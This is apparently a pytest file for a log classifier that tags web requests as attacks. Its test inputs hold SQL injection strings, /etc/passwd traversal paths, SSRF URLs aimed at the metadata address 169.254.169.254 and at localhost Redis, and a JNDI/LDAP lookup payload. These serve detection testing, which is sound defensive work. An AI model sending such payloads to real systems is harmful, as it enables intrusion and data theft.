"""Behaviours behind the review's attack-labelling fixes that the review corpus does not pin down:
archive downloads (weak hits), stable names winning over the old semconv ones, url.full split,
request-header inspection limits, hypercorn's default line."""

from __future__ import annotations

from typing import Any

from opentelemetry._logs import LogRecord, SeverityNumber

from otel_ext.classify import EventClassifierProcessor
from otel_ext.telemetry import Counters

_CLASSIFIER = EventClassifierProcessor(counters=Counters("fixes"))


def classify(attrs: dict[str, Any], body: str = "request", scope: str = "shop.api") -> dict[str, Any]:
    rec = LogRecord(body=body, attributes=dict(attrs), severity_number=SeverityNumber.INFO)
    _CLASSIFIER.classify_record(rec, scope)
    return dict(rec.attributes or {})


def test_an_archive_download_is_access_when_answered_and_a_probe_when_refused() -> None:
    ok = classify({"url.path": "/exports/orders-2026-11.zip", "http.response.status_code": 200})
    assert ok["labels.event_class"] == "access"
    missing = classify({"url.path": "/exports/orders-2026-11.zip", "http.response.status_code": 404})
    assert missing["labels.event_class"] == "security"
    assert missing["event.action"] == "malicious_direct_reference" and missing["rule.id"] == "probe.archive"
    # a backup-named archive is a probe whatever the answer
    backup = classify({"url.path": "/backup.tar.gz", "http.response.status_code": 200})
    assert backup["event.action"] == "malicious_direct_reference" and backup["rule.id"] == "probe.backup"


def test_an_archive_path_does_not_hide_an_attack_in_the_query() -> None:
    attrs = classify({"url.path": "/files/a.zip", "url.query": "id=1' OR '1'='1", "http.response.status_code": 200})
    assert attrs["event.action"] == "malicious_sqli" and attrs["labels.attack_field"] == "url.query"


def test_stable_names_win_over_the_old_semconv_names() -> None:
    attrs = classify({"http.response.status_code": 200, "http.status_code": 500, "url.path": "/api/items",
                      "http.target": "/etc/passwd?x=../../etc/passwd"})
    assert attrs["labels.event_class"] == "access"
    assert attrs["url.path"] == "/api/items" and "url.query" not in attrs
    old = classify({"http.method": "GET", "http.status_code": 403, "http.target": "/download?f=../../etc/passwd"})
    assert old["event.action"] == "malicious_path_traversal" and old["labels.attack_field"] == "url.query"
    assert old["url.path"] == "/download" and old["http.response.status_code"] == 403


def test_url_full_is_inspected_as_path_and_query_not_by_its_own_host() -> None:
    local = classify({"url.full": "http://localhost:8000/api/items?page=2", "http.response.status_code": 200})
    assert local["labels.event_class"] == "access", local.get("rule.id")
    assert local["url.path"] == "/api/items" and local["url.query"] == "page=2"
    attack = classify({"url.full": "https://api.example.com/f?u=http://169.254.169.254/", "http.response.status_code": 200})
    assert attack["event.action"] == "malicious_ssrf"


def test_request_headers_are_inspected_but_credentials_are_not() -> None:
    base = {"url.path": "/api/items", "http.response.status_code": 200}
    hit = classify({**base, "http.request.header.x-api-version": ["${jndi:ldap://x.example/a}"]})
    assert hit["event.action"] == "malicious_template_injection"
    assert hit["labels.attack_field"] == "http.request.header.x-api-version"
    assert classify({**base, "http.request.header.authorization": ["Basic ' OR 1=1--"]})["labels.event_class"] == "access"
    # dev front-ends: Origin / Referer naming localhost are no SSRF
    assert classify({**base, "http.request.header.origin": ["http://localhost:3000"],
                     "http.request.header.referer": ["http://127.0.0.1:3000/app"]})["labels.event_class"] == "access"
    tool = classify({**base, "http.request.header.X-Scanner": "Netsparker"})
    assert tool["event.action"] == "malicious_attack_tool"


def test_hypercorn_default_access_line_is_parsed() -> None:
    line = '203.0.113.7:51234 - - [26/Nov/2026:10:00:00 +0000] "GET /.git/config 1.1" 404 0 "-" "curl/8"'
    attrs = classify({}, body=line, scope="hypercorn.access")
    assert attrs["url.path"] == "/.git/config" and attrs["client.address"] == "203.0.113.7"
    assert attrs["event.action"] == "malicious_direct_reference"


def test_localhost_as_a_search_word_is_not_ssrf_but_as_a_value_is() -> None:
    words = classify({"url.path": "/docs", "url.query": "q=how+to+connect+to+localhost+redis",
                      "http.response.status_code": 200})
    assert words["labels.event_class"] == "access"
    value = classify({"url.path": "/api/fetch", "url.query": "url=localhost:6379/", "http.response.status_code": 200})
    assert value["event.action"] == "malicious_ssrf"
